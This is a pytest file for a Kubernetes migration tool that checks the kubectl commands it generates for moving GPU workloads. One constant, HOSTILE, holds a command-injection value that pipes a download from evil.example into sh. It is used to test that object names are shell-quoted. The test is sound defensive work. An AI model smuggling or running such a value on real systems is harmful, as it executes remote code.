"""Commands of a plan: they are copied into shells, and names come from a cluster or a pull request."""

from __future__ import annotations

import shlex
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from dra_infra.advice.objects import reference_to
from dra_infra.catalog.workload_kinds import workload_kinds
from dra_infra.cutover.estate import Unit
from dra_infra.cutover.steps import Move, back_from_move, how_it_moves, move
from dra_infra.kubernetes.api import ObjectRef
from tests.support.migration.plans import commands, deployment, job


def moved(each: Unit) -> Move:
    return how_it_moves(each, workload_kinds())


HOSTILE = "n; curl evil.example | sh"


def unit(manifest: Mapping[str, Any], **metadata: Any) -> Unit:
    changed = {**manifest, "metadata": {**manifest["metadata"], **metadata}}
    return Unit(ref=reference_to(changed), before=changed, after=(changed,))


def of_kind(kind: str, group: str, **spec: Any) -> Move:
    """How an object of a kind of another project moves."""
    metadata = {"name": "x", "namespace": "ml"}
    return moved(unit({"apiVersion": f"{group}/v1", "kind": kind, "metadata": metadata, "spec": spec}))


def test_a_name_never_ends_a_command():
    on_delete = deployment(HOSTILE, 1, 1) | {"kind": "StatefulSet"}
    on_delete["spec"]["updateStrategy"] = {"type": "OnDelete"}
    moving = [
        moved(unit(each, name=HOSTILE, namespace=HOSTILE))
        for each in (deployment("a", 1, 1), job("a", 1, 1), on_delete)
    ]
    resources = [f"nvidia.com/'{HOSTILE}"]
    daemons = {ObjectRef("DaemonSet", HOSTILE, HOSTILE): f"{HOSTILE}={HOSTILE}"}
    given = [HOSTILE], resources, moving, daemons, {ObjectRef("Pod", HOSTILE, HOSTILE): True}
    steps = (*move(*given), *back_from_move(*given[:4], daemons, given[4]))
    commands = [each for step in steps for each in step.commands if "curl" in each]
    assert commands
    for command in commands:
        assert not {"|", "curl", "sh"} & set(shlex.split(command))


def test_plain_names_are_not_quoted():
    steps = move(["gpu-0", "gpu-1"], ["nvidia.com/gpu"], [moved(unit(deployment("serve", 1, 1)))], {}, {})
    commands = [each for step in steps for each in step.commands]
    assert "kubectl cordon gpu-0 gpu-1" in commands
    gone = r"--for='jsonpath={.status.allocatable.nvidia\.com/gpu}=0'"
    assert f"kubectl wait {gone} node/gpu-0 node/gpu-1 --timeout=10m" in commands
    assert "kubectl get resourceslices --field-selector spec.nodeName=gpu-0" in commands
    assert "kubectl rollout status deployment/serve -n ml" in commands


def test_a_rollout_is_waited_for_when_its_nodes_are_back():
    back = back_from_move(["gpu-0"], ["nvidia.com/gpu"], [moved(unit(deployment("serve", 1, 1)))], {}, {}, {})
    commands = [each for step in back for each in step.commands]
    assert commands[-2:] == ["kubectl uncordon gpu-0", "kubectl rollout status deployment/serve -n ml"]
    assert "kubectl apply -f FILE" in commands
    assert not any("rollout" in each for each in commands[:-1])


@pytest.mark.parametrize(
    ("kind", "group", "name"),
    [
        ("JobSet", "jobset.x-k8s.io", "jobset.jobset.x-k8s.io"),
        ("Job", "batch.volcano.sh", "job.batch.volcano.sh"),
        ("PyTorchJob", "kubeflow.org", "pytorchjob.kubeflow.org"),
        ("TrainJob", "trainer.kubeflow.org", "trainjob.trainer.kubeflow.org"),
        ("RayCluster", "ray.io", "raycluster.ray.io"),
        ("RayJob", "ray.io", "rayjob.ray.io"),
        ("Workflow", "argoproj.io", "workflow.argoproj.io"),
        ("Job", "batch", "job"),
    ],
)
def test_what_keeps_its_pods_or_refuses_others_is_made_anew(kind: str, group: str, name: str):
    found = of_kind(kind, group)
    assert found.says.startswith("is deleted and created anew, for ")
    assert found.first == (f"kubectl delete {name} x --ignore-not-found -n ml",)
    assert found.then == ()
    (step,) = move([], [], [found], {}, {})
    assert step.what == f"apply {found.ref} as migrated, once it is deleted"


@pytest.mark.parametrize(
    ("kind", "group", "says"),
    [
        ("LeaderWorkerSet", "leaderworkerset.x-k8s.io", "replaces its pods group by group"),
        ("RayService", "ray.io", "brings up a second Ray cluster"),
        ("CronJob", "batch", "keeps the Jobs that run as they are; those that it starts from then on"),
        ("CronWorkflow", "argoproj.io", "keeps what runs as it is"),
        ("Rollout", "argoproj.io", "replaces its pods as spec.strategy says: a canary by maxSurge and"),
    ],
)
def test_what_a_controller_does_by_itself_is_left_to_it(kind: str, group: str, says: str):
    found = of_kind(kind, group)
    assert found.says.startswith(says)
    assert (found.first, found.then) == ((), ())


def test_a_ray_cluster_that_is_recreated_on_a_change_is_applied():
    found = of_kind("RayCluster", "ray.io", upgradeStrategy={"type": "Recreate"})
    assert (found.first, found.then) == ((), ())
    assert "deletes all of them" in found.says


@pytest.mark.parametrize(
    ("kind", "spec"),
    [
        ("ReplicaSet", {}),
        ("StatefulSet", {"updateStrategy": {"type": "OnDelete"}}),
        ("DaemonSet", {"updateStrategy": {"type": "OnDelete"}}),
    ],
)
def test_pods_that_nobody_replaces_are_deleted_and_no_rollout_is_waited_for(kind: str, spec: dict[str, Any]):
    template = {"metadata": {"labels": {"app": "a", "tier": "b"}}}
    found = of_kind(kind, "apps", template=template, **spec)
    assert found.says.startswith("keeps its")
    assert found.says.endswith(": these are deleted")
    assert found.then == ("kubectl delete pods -l app=a,tier=b -n ml",)
    assert commands(move([], [], [found], {}, {})) == ["kubectl apply -f FILE", *found.then]
    # Without labels the command would mean every pod.
    assert of_kind(kind, "apps", **spec).then == ()


def test_an_object_with_a_name_that_is_made_up_is_created_and_named_by_no_command():
    made = job("x", 1, 1)
    found = moved(unit({**made, "metadata": {"generateName": "gen-", "namespace": "ml"}}))
    (step,) = move([], [], [found], {}, {})
    assert step.what.startswith(
        "delete what was made of Job ml/gen-*, and make it by kubectl create as migrated"
    )
    assert step.commands == ("kubectl get job -n ml", "kubectl create -f FILE")


@pytest.mark.parametrize("made", [deployment("a", 1, 1), job("a", 1, 1)], ids=["Deployment", "Job"])
def test_every_step_that_applies_has_the_command_behind_what_it_deletes(made: dict[str, Any]):
    alone = moved(replace(unit(made), file="my jobs/a.yaml"))
    (step,) = move([], [], [alone], {}, {})
    (back,) = back_from_move([], [], [alone], {}, {}, {})
    assert step.commands == (*alone.first, "kubectl apply -f 'my jobs/a.yaml'", *alone.then)
    assert back.commands == (*alone.first, "kubectl apply -f 'my jobs/a.yaml.orig'", *alone.then)


def test_a_file_with_other_workloads_is_not_applied_as_a_whole():
    others = (ObjectRef("Deployment", "web", "ml"),)
    both = moved(replace(unit(job("a", 1, 1)), file="all.yaml", beside=others))
    (step,) = move([], [], [both], {}, {})
    assert step.commands == (*both.first, "kubectl apply -f FILE")
    assert "from all.yaml into a FILE of its own, for that has Deployment ml/web too" in step.what
